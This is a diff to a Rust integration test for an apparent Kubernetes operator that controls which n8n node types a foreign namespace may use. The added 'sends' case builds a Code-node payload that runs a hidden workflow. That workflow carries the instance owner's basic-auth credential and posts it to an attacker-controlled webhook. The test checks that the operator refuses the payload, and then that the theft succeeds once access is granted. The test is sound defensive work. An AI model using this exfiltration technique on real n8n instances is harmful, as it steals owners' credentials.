@@ -1,9 +1,11 @@
 //! What the nodes of another namespace than the instance's may reach: types, data tables and versions that were not there at adoption.
 
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
 use kube::api::{Patch, PatchParams};
 use serde_json::{Value, json};
 
-use crate::n8n::{answering, id, set_value, with_node};
+use crate::n8n::{N8n, answering, id, set_value, with_node};
 use crate::stack::Stack;
 use crate::standin::{Options, StandIn};
 use crate::world::{World, condition, current, ready};
@@ -77,6 +79,28 @@ fn running(id: &str) -> Value {
     json!({ "code": { "execute": { "code": code } }, "inputs": { "input": [{ "type": "main" }] }, "outputs": { "output": [{ "type": "main" }] } })
 }
 
+/// The same with the code of a workflow that carries a credential by its id and sends it to a URL.
+fn sending(credential: &str, url: &str) -> Value {
+    let nodes = json!([
+        { "id": "1", "name": "Called", "type": "n8n-nodes-base.executeWorkflowTrigger", "typeVersion": 1.1, "position": [0, 0], "parameters": { "inputSource": "passthrough" } },
+        { "id": "2", "name": "Send", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2, "position": [200, 0],
+          "parameters": { "url": url, "authentication": "genericCredentialType", "genericAuthType": "httpBasicAuth", "options": {} },
+          "credentials": { "httpBasicAuth": { "id": credential, "name": "Any" } } },
+    ]);
+    let code = json!({ "nodes": nodes, "connections": { "Called": { "main": [[{ "node": "Send", "type": "main", "index": 0 }]] } } });
+    let code = format!("return [{{ json: {{ got: JSON.stringify(await this.executeWorkflow({{ code: {code} }})) }} }}];");
+    json!({ "code": { "execute": { "code": code } }, "inputs": { "input": [{ "type": "main" }] }, "outputs": { "output": [{ "type": "main" }] } })
+}
+
+/// A credential of the instance's owner, and what is sent with it.
+async fn somebodys_credential(n8n: &N8n) -> (String, String) {
+    let password = format!("{:x}", crate::stack::rand());
+    let data = json!({ "user": "u", "password": password });
+    let made = n8n.api("POST", "/credentials", Some(json!({ "name": "Somebody's", "type": "httpBasicAuth", "data": data }))).await;
+    let id = made.json()["id"].as_str().unwrap_or_else(|| panic!("{}", made.text)).to_owned();
+    (id, format!("Basic {}", STANDARD.encode(format!("u:{password}"))))
+}
+
 fn inline(nodes: &Value) -> Value {
     json!({ "source": "parameter", "workflowJson": json!({ "nodes": nodes, "connections": {} }).to_string(), "options": {} })
 }
@@ -98,8 +122,17 @@ async fn code_that_runs_another_namespaces_workflow_is_refused_wherever_it_stand
     assert_eq!(n8n.api("POST", &format!("/workflows/{victim}/publish"), Some(json!({}))).await.status, 200);
     let path = |name: &str| format!("{}/{name}", foreign.other);
     let hidden = json!([{ "name": "Deep", "type": CODE, "typeVersion": 1, "position": [0, 0], "parameters": running(&victim) }]);
+    // A webhook of the attacker's own, to which the owner's credential is sent.
+    let (credential, sent) = somebodys_credential(n8n).await;
+    let mut collects = answering(&path("collects"), "");
+    set_value(&mut collects, "={{ $json.headers.authorization }}");
     let tries = [
         ("plain", with(&path("plain"), CODE, 1.0, running(&victim)), "NodeTypeNotGranted"),
+        (
+            "sends",
+            with(&path("sends"), CODE, 1.0, sending(&credential, &format!("{}/webhook/{}", n8n.webhooks, path("collects")))),
+            "NodeTypeNotGranted",
+        ),
         // n8n takes the first two parts for the type.
         ("dotted", with(&path("dotted"), &format!("{CODE}.set"), 1.0, running(&victim)), "ReferenceNotGranted"),
         ("inline", with(&path("inline"), EXECUTE, 1.2, inline(&hidden)), "NodeTypeNotGranted"),
@@ -115,15 +148,21 @@ async fn code_that_runs_another_namespaces_workflow_is_refused_wherever_it_stand
         println!("{name}: {reason}: {said}");
         assert!(said.contains("spec.grants[]"), "{said}");
     }
-    assert!(foreign.reached(&["plain", "dotted", "inline", "by-id"]).await.is_empty(), "nothing of them reaches n8n");
-    // What it would have done.
+    assert!(foreign.reached(&["plain", "sends", "dotted", "inline", "by-id"]).await.is_empty(), "nothing of them reaches n8n");
+    // What they would have done.
+    foreign.apply("collects", json!({ "active": true, "definition": collects })).await;
+    foreign.until_ready("collects").await;
     foreign.grant(json!({ "nodeTypes": [CODE] })).await;
     foreign.until_ready("plain").await;
     let got = n8n.webhook("GET", &path("plain")).await;
     assert!(got.text.contains("the victim ran"), "{}: {}", got.status, got.text);
+    foreign.until_ready("sends").await;
+    let got = n8n.webhook("GET", &path("sends")).await;
+    assert!(got.text.contains(&sent), "{}: {}", got.status, got.text);
     foreign.says("dotted", "Ready", "ReferenceNotGranted").await;
     n8n.api("POST", &format!("/workflows/{victim}/unpublish"), None).await;
     n8n.api("DELETE", &format!("/workflows/{victim}"), None).await;
+    n8n.api("DELETE", &format!("/credentials/{credential}"), None).await;
 }
 
 /// On the real n8n: an id is what a grant names; all tables are listed by nobody without all.
